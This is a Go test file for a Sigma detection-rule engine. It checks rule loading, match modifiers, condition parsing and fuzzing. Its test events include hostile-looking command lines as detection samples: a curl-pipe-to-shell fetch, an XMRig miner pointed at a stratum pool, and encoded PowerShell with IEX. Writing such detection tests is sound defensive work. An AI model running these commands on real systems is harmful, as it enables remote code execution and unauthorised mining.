package sigma

import (
	"encoding/base64"
	"os"
	"slices"
	"strings"
	"testing"

	"github.com/tillwatch/tillwatch/internal/event"
)

// TestCommunityTree loads a nested tree written the way SigmaHQ publishes
// (testdata/community): every attribute of the specification, nested
// folders, Windows-only rules, a log source the sensor does not have.
func TestCommunityTree(t *testing.T) {
	t.Parallel()
	fsys := os.DirFS("testdata/community")
	rs, ps := LoadDir(fsys, "sigma")
	if err := Errors(ps); err != nil {
		t.Fatalf("errors: %v", err)
	}
	byStem := map[string]*Rule{}
	for _, r := range rs {
		byStem[stemOf(r.File)] = r
	}
	if len(rs) != 6 {
		t.Fatalf("loaded %d rules, want 6", len(rs))
	}
	every := byStem["proc_creation_lnx_every_key"]
	if every == nil || every.Title != "Every attribute of the specification" || every.Level != "high" ||
		!slices.Equal(every.Authors, []string{"Jane Analyst", "John Responder"}) || every.Reference != "https://example.org/first" ||
		!slices.Equal(every.Techniques, []string{"T1059.004"}) || every.Tactic == nil || every.Tactic.ID != "TA0002" {
		t.Errorf("every-key rule = %+v", every)
	}
	// Only the vendor key outside the specification is a warning.
	for _, p := range ps {
		if strings.HasSuffix(p.File, "every_key.yml") && !strings.Contains(p.Reason, "regression_tests_path") {
			t.Errorf("unexpected problem %s", p)
		}
	}
	tests := []struct {
		stem          string
		linux, window string // "" runs; otherwise a substring of Skip's reason
	}{
		{"proc_creation_lnx_every_key", "", "not run on a windows sensor"},
		{"proc_creation_lnx_digit_patterns", "", "not run on a windows sensor"},
		{"proc_creation_lnx_keywords", "", "not run on a windows sensor"},
		{"proc_creation_win_portable", "not run on a linux sensor", ""},
		{"proc_creation_win_only", "IntegrityLevel", "IntegrityLevel"},
		{"lnx_auditd_service", "service auditd", "service auditd"},
	}
	for _, tc := range tests {
		r := byStem[tc.stem]
		if r == nil {
			t.Errorf("%s not loaded", tc.stem)
			continue
		}
		for goos, want := range map[string]string{"linux": tc.linux, "windows": tc.window} {
			got := r.Skip(goos)
			if (want == "") != (got == "") || !strings.Contains(got, want) {
				t.Errorf("%s on %s: Skip = %q, want %q", tc.stem, goos, got, want)
			}
		}
	}
	if s := Summarize(rs, ps, "linux"); s.Run != 3 || s.OtherOS != 1 || s.NotApplicable != 2 || s.Errors != 0 {
		t.Errorf("summary %s", s)
	}
	// Lint: no errors (imported rules need no samples), one skipped line
	// per not-applicable rule.
	skipped := 0
	for _, p := range LintDir(fsys, "sigma") {
		switch p.Level {
		case LevelError:
			t.Errorf("lint error: %s", p)
		case LevelSkipped:
			skipped++
		}
	}
	if skipped != 2 {
		t.Errorf("%d skipped lines, want 2", skipped)
	}

	exec := func(img, cmd, cwd string) *event.Event {
		return &event.Event{Event: event.Meta{Kind: event.KindEvent, Action: "exec"}, Process: &event.Process{
			PID: 9, Executable: img, CommandLine: cmd, WorkingDirectory: cwd,
			Parent: &event.ParentProcess{PID: 1, Executable: `C:\Program Files (x86)\ScreenConnect Client\ScreenConnect.ClientService.exe`}}}
	}
	matches := []struct {
		stem string
		ev   *event.Event
		want bool
	}{
		{"proc_creation_lnx_every_key", exec("/usr/bin/curl", "curl -s http://x/i | sh", "/"), true},
		{"proc_creation_lnx_every_key", exec("/usr/bin/curl", "curl -s http://x/i -o i", "/"), false},
		{"proc_creation_lnx_digit_patterns", exec("/usr/bin/tar", "tar czf a.tgz --remove-files /srv", "/root"), true},
		{"proc_creation_lnx_digit_patterns", exec("/usr/bin/tar", "tar czf a.tgz --remove-files /srv", "/var/backups/x"), false},
		{"proc_creation_lnx_digit_patterns", exec("/usr/bin/unzip", "unzip -x a.zip", "/root"), true},
		{"proc_creation_lnx_digit_patterns", exec("/usr/bin/tar", "tar czf a.tgz /srv", "/root"), false},
		{"proc_creation_lnx_keywords", exec("/tmp/x", "/tmp/x -o stratum+tcp://pool:3333", "/"), true},
		{"proc_creation_lnx_keywords", exec("/opt/XMRig/run", "run", "/"), true},
		{"proc_creation_lnx_keywords", exec("/usr/bin/ls", "ls -la", "/"), false},
		{"proc_creation_win_portable", exec(`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "powershell /enc SQBFAFgA", `C:\`), true},
		{"proc_creation_win_portable", exec(`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "powershell \u2013enc SQBFAFgA", `C:\`), true},
		{"proc_creation_win_portable", exec(`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "powershell -File a.ps1", `C:\`), false},
	}
	for _, tc := range matches {
		got, err := byStem[tc.stem].Matches(tc.ev)
		if err != nil || got != tc.want {
			t.Errorf("%s on %q: %v, %v; want %v", tc.stem, tc.ev.Process.CommandLine, got, err, tc.want)
		}
	}
}

// rule builds a process_creation rule around one detection block.
func rule(detection string) []byte {
	return []byte("title: t\nid: 00000000-0000-4000-8000-000000000000\nlevel: low\nlogsource:\n  category: process_creation\n  product: linux\ndetection:\n" + detection)
}

// TestModifiers covers every modifier of the specification on real
// values.
func TestModifiers(t *testing.T) {
	t.Parallel()
	b64 := func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }
	tests := []struct {
		name, field, cmd string
		want             bool
	}{
		{"equals is case-insensitive", "CommandLine: 'WHOAMI'", "whoami", true},
		{"equals is whole", "CommandLine: 'whoami'", "whoami /all", false},
		{"wildcard star", "CommandLine: 'who*all'", "whoami /all", true},
		{"wildcard question", "CommandLine: 'who?mi'", "whoami", true},
		{"escaped star is literal", `CommandLine: 'a\*b'`, "a*b", true},
		{"escaped star no wildcard", `CommandLine: 'a\*b'`, "axxb", false},
		{"contains", "CommandLine|contains: 'AMI /'", "whoami /all", true},
		{"startswith", "CommandLine|startswith: 'who'", "whoami", true},
		{"startswith miss", "CommandLine|startswith: 'ami'", "whoami", false},
		{"endswith", "CommandLine|endswith: '/ALL'", "whoami /all", true},
		{"contains all", "CommandLine|contains|all: ['who', '/all']", "whoami /all", true},
		{"contains all miss", "CommandLine|contains|all: ['who', '/priv']", "whoami /all", false},
		{"contains any", "CommandLine|contains: ['nope', '/all']", "whoami /all", true},
		{"cased", "CommandLine|cased: 'WhoAmI'", "whoami", false},
		{"cased hit", "CommandLine|contains|cased: 'AmI'", "whoAmI", true},
		{"base64", "CommandLine|base64: 'hello'", b64("hello"), true},
		{"base64 contains", "CommandLine|base64|contains: 'hello'", "echo " + b64("hello") + " | base64 -d", true},
		{"base64offset 0", "CommandLine|base64offset|contains: 'curl http'", "x " + b64("curl http://a") + " y", true},
		{"base64offset 1", "CommandLine|base64offset|contains: 'curl http'", b64("Xcurl http://a"), true},
		{"base64offset 2", "CommandLine|base64offset|contains: 'curl http'", b64("XYcurl http://a"), true},
		{"base64offset miss", "CommandLine|base64offset|contains: 'curl http'", b64("wget http://a"), false},
		{"utf16le base64", "CommandLine|wide|base64offset|contains: 'IEX'", "-enc " + base64.StdEncoding.EncodeToString([]byte("I\x00E\x00X\x00 \x00")), true},
		{"utf16le base64 miss", "CommandLine|utf16le|base64offset|contains: 'IEX'", "-enc " + b64("IEX "), false},
		{"windash dash", "CommandLine|windash|contains: ' -enc'", "ps -enc x", true},
		{"windash slash", "CommandLine|windash|contains: ' -enc'", "ps /enc x", true},
		{"windash en dash", "CommandLine|windash|contains: ' -enc'", "ps \u2013enc x", true},
		{"windash em dash", "CommandLine|windash|contains: ' -enc'", "ps \u2014enc x", true},
		{"windash horizontal bar", "CommandLine|windash|contains: ' -enc'", "ps \u2015enc x", true},
		{"windash miss", "CommandLine|windash|contains: ' -enc'", "ps +enc x", false},
		{"re", "CommandLine|re: '^who(ami)?$'", "whoami", true},
		{"re is case-sensitive", "CommandLine|re: '^WHO'", "whoami", false},
		{"re i", "CommandLine|re|i: '^WHO'", "whoami", true},
		{"re m", "CommandLine|re|m: '^b$'", "a\nb", true},
		{"re s", "CommandLine|re|s: 'a.b'", "a\nb", true},
		{"re without s", "CommandLine|re: 'a.b'", "a\nb", false},
		{"exists true", "CommandLine|exists: true", "x", true},
		{"exists false", "CommandLine|exists: false", "x", false},
		{"null", "CommandLine: null", "", true},
		{"null miss", "CommandLine: null", "x", false},
		{"empty", "CommandLine: ''", "", true},
		{"gt", "ProcessId|gt: 100", "", true},
		{"gte", "ProcessId|gte: 4242", "", true},
		{"lt", "ProcessId|lt: 100", "", false},
		{"lte", "ProcessId|lte: 4242", "", true},
		{"fieldref", "CommandLine|fieldref: Image", "/usr/bin/id", true},
		{"fieldref contains", "CommandLine|fieldref|contains: Image", "/usr/bin/id -u", true},
		{"fieldref endswith miss", "CommandLine|fieldref|endswith: Image", "/usr/bin/id -u", false},
		{"cidr miss on a non-ip", "CommandLine|cidr: '10.0.0.0/8'", "whoami", false},
		{"cidr v4", "CommandLine|cidr: '10.0.0.0/8'", "10.2.3.4", true},
		{"cidr v6", "CommandLine|cidr: 'fd00::/8'", "fd12::1", true},
		{"field-less contains", "'|contains': 'bin/i'", "x", true},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			r, ps := parseRule("r.yml", rule("  sel:\n    "+tc.field+"\n  condition: sel\n"))
			if r == nil || r.NotApplicable != "" {
				t.Fatalf("does not load: %v %+v", ps, r)
			}
			ev := &event.Event{Event: event.Meta{Kind: event.KindEvent, Action: "exec"}, Process: &event.Process{
				PID: 4242, Executable: "/usr/bin/id", CommandLine: tc.cmd}}
			got, err := r.Matches(ev)
			if err != nil || got != tc.want {
				t.Errorf("%s on %q = %v (%v), want %v", tc.field, tc.cmd, got, err, tc.want)
			}
		})
	}
}

func TestModifierErrorsAndNotApplicable(t *testing.T) {
	t.Parallel()
	tests := []struct {
		field, err, na string
	}{
		{"CommandLine|bogus: x", "unknown modifier bogus", ""},
		{"CommandLine|re: '('", "re: error parsing regexp", ""},
		{"CommandLine|cidr: 'x'", "cidr:", ""},
		{"ProcessId|gt: abc", "gt needs a number", ""},
		{"CommandLine|exists: maybe", "exists takes true or false", ""},
		{"CommandLine|contains|endswith: x", "exclude each other", ""},
		{"CommandLine|i: x", "only go with re", ""},
		{"CommandLine|base64|re: x", "cannot follow value encodings", ""},
		{"CommandLine|expand: '%admins%'", "", "expand needs placeholder values"},
		{"CommandLine|hour: 3", "", "time modifier hour"},
		{"OriginalFileName: x", "", "PE version-resource"},
		{"TargetFilename: x", "", "not on tillwatch's process_creation events"},
	}
	for _, tc := range tests {
		r, ps := parseRule("r.yml", rule("  sel:\n    "+tc.field+"\n  condition: sel\n"))
		switch {
		case tc.err != "":
			if r != nil || Errors(ps) == nil || !strings.Contains(Errors(ps).Error(), tc.err) {
				t.Errorf("%s: rule %v, problems %v, want error %q", tc.field, r, ps, tc.err)
			}
		default:
			if r == nil || !strings.Contains(r.NotApplicable, tc.na) {
				t.Errorf("%s: rule %+v, problems %v, want not applicable %q", tc.field, r, ps, tc.na)
			}
		}
	}
}

func TestConditions(t *testing.T) {
	t.Parallel()
	// Searches sel1, sel2, filter_a, filter_b, _hidden evaluate to the
	// booleans given; each condition is checked against the expectation.
	res := map[string]bool{"sel1": true, "sel2": false, "sel10": true, "filter_a": false, "filter_b": true, "_hidden": false}
	names := []string{"_hidden", "filter_a", "filter_b", "sel1", "sel10", "sel2"}
	tests := []struct {
		cond string
		want bool
		err  string
	}{
		{"sel1", true, ""},
		{"sel1 and sel2", false, ""},
		{"sel1 or sel2", true, ""},
		{"sel1 and not sel2", true, ""},
		{"not sel1 or sel2", false, ""},
		{"sel2 or sel1 and filter_b", true, ""}, // and binds tighter
		{"(sel2 or sel1) and filter_a", false, ""},
		{"1 of sel*", true, ""},
		{"all of sel*", false, ""},
		{"all of sel1*", true, ""},
		{"(all of sel1*)", true, ""},
		{"1 of filter_*", true, ""},
		{"all of filter_*", false, ""},
		{"1 of them", true, ""},
		{"all of them", false, ""},
		{"any of sel2", false, ""},
		{"1 of sel1", true, ""},
		{"all of sel1", true, ""},
		{"sel1 AND NOT 1 OF filter_a", true, ""},
		{"not not sel1", true, ""},
		{"((sel1))", true, ""},
		{"", false, "empty"},
		{"sel1 and", false, "ends early"},
		{"(sel1", false, "missing )"},
		{"sel1 )", false, "unexpected"},
		{"sel*", false, "needs \"1 of\""},
		{"sel1 | count() > 5", false, "aggregations"},
		{"sel1 # x", false, "unexpected character"},
		{strings.Repeat("(", 100) + "sel1" + strings.Repeat(")", 100), false, "nested deeper"},
	}
	for _, tc := range tests {
		e, err := parseCondition(tc.cond)
		if tc.err != "" {
			if err == nil || !strings.Contains(err.Error(), tc.err) {
				t.Errorf("%q: err %v, want %q", tc.cond, err, tc.err)
			}
			continue
		}
		if err != nil {
			t.Errorf("%q: %v", tc.cond, err)
			continue
		}
		if got := e.eval(func(n string) bool { return res[n] }, names); got != tc.want {
			t.Errorf("%q = %v, want %v", tc.cond, got, tc.want)
		}
	}
}

func FuzzParseCondition(f *testing.F) {
	for _, s := range []string{"sel", "1 of sel*", "all of them and not (a or b)", "(all of selection1*)", "a | count() > 3"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		e, err := parseCondition(s)
		if err == nil {
			e.eval(func(string) bool { return true }, []string{"a", "sel"})
			e.idents()
		}
	})
}

func FuzzParseRule(f *testing.F) {
	ents, _ := os.ReadDir("testdata/community/sigma/rules/linux/process_creation")
	for _, e := range ents {
		if raw, err := os.ReadFile("testdata/community/sigma/rules/linux/process_creation/" + e.Name()); err == nil {
			f.Add(raw)
		}
	}
	f.Add(rule("  sel:\n    CommandLine|windash|base64offset|contains: ' -x'\n  condition: sel\n"))
	f.Fuzz(func(t *testing.T, raw []byte) {
		r, _ := parseRule("f.yml", raw)
		if r != nil && r.NotApplicable == "" {
			ev := &event.Event{Event: event.Meta{Kind: event.KindEvent, Action: "exec"}, Process: &event.Process{PID: 1, CommandLine: "a -x b"}}
			_, _ = r.Matches(ev)
		}
	})
}

// BenchmarkDetectImported evaluates a whole imported tree (a SigmaHQ
// checkout's rules/, given in TILLWATCH_SIGMA_TREE) on one exec event:
// the per-event cost of running every Linux rule that loads.
func BenchmarkDetectImported(b *testing.B) {
	dir := os.Getenv("TILLWATCH_SIGMA_TREE")
	if dir == "" {
		b.Skip("set TILLWATCH_SIGMA_TREE to a Sigma rule tree (e.g. a SigmaHQ checkout's rules/)")
	}
	rs, ps := LoadDir(os.DirFS(dir), ".")
	d := New(rs, "linux")
	b.Logf("%s", Summarize(rs, ps, "linux"))
	ev := &event.Event{Event: event.Meta{Kind: event.KindEvent, Action: "exec"}, Process: &event.Process{
		PID: 7, Executable: "/usr/bin/curl", CommandLine: "curl -fsSL https://example.org/install.sh -o /tmp/i.sh", WorkingDirectory: "/root",
		User:   &event.User{Name: "root"},
		Parent: &event.ParentProcess{PID: 1, Executable: "/usr/bin/bash", CommandLine: "-bash"}}}
	b.ReportAllocs()
	for b.Loop() {
		d.Detect(ev)
	}
}
